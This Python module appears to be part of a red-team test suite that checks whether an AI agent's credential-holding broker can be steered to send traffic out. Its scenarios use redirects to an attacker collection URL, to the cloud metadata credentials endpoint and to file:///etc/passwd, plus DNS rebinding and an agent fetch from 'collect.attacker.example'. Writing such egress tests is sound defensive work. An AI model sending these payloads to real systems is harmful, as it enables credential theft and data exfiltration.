"""Path 5, egress to an attacker endpoint: the broker (holding the credential) is steered to a
host the attacker controls, by redirects, by a name that resolves inside, or by a URL argument."""

from __future__ import annotations

from gatehouse.redteam._moves import call, decided, session, step
from gatehouse.redteam.range import Range
from gatehouse.redteam.scenario import Outcome, blocked, describe, got_through, scenario


def _redirect(r: Range, to: str, task: str) -> Outcome:
    assert r.sink is not None
    agent = r["agent"]
    sid = session(r, agent, task)
    before = r.sink.connections
    resp = call(r, agent, "rt_web", "redirect", {"to": to}, sid)
    reached = r.sink.connections - before
    if reached or (resp.status_code == 200 and resp.json().get("http_status") == 200):
        return got_through(
            describe(resp), f"attacker connections: {reached}", detail=f"the broker followed to {to}"
        )
    return blocked(f"attacker connections: {reached}", describe(resp))


@scenario("egress", "redirect-to-attacker", "a 302 from the listed host to the attacker's port")
def to_attacker(r: Range) -> Outcome:
    assert r.sink is not None
    return _redirect(r, f"{r.sink.url}/collect", "read the page")


@scenario("egress", "redirect-to-metadata", "a 302 to the cloud metadata service")
def to_metadata(r: Range) -> Outcome:
    return _redirect(r, "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "read the page")


@scenario("egress", "redirect-to-file", "a 302 to a file: URL")
def to_file(r: Range) -> Outcome:
    return _redirect(r, "file:///etc/passwd", "read the page")


@scenario("egress", "dns-rebinding", "an adapter named by a host that resolves to an internal address")
def rebinding(r: Range) -> Outcome:
    assert r.target is not None
    agent = r["agent"]
    sid = session(r, agent, "read the page")
    before = r.target.hits["/page"]
    resp = call(r, agent, "rt_rebind", "page", {}, sid)
    reached = r.target.hits["/page"] - before
    if reached or resp.status_code == 200:
        return got_through(
            describe(resp), f"internal hits: {reached}", detail="the name's internal address was used"
        )
    return blocked(f"internal hits: {reached}", describe(resp))


@scenario("egress", "attacker-url-argument", "the agent fetches a URL on the attacker's host")
def attacker_url(r: Range) -> Outcome:
    assert r.sink is not None
    agent = r["agent"]
    sid = session(r, agent, "read the docs")
    resp = step(
        r, agent, sid, "rt_agent", "fetch_url", {"url": f"https://collect.attacker.example/?d={r.run_id}"}
    )
    if decided(resp) == "allow":
        return got_through(describe(resp), detail="a fetch from an unlisted host was allowed")
    return blocked(describe(resp))
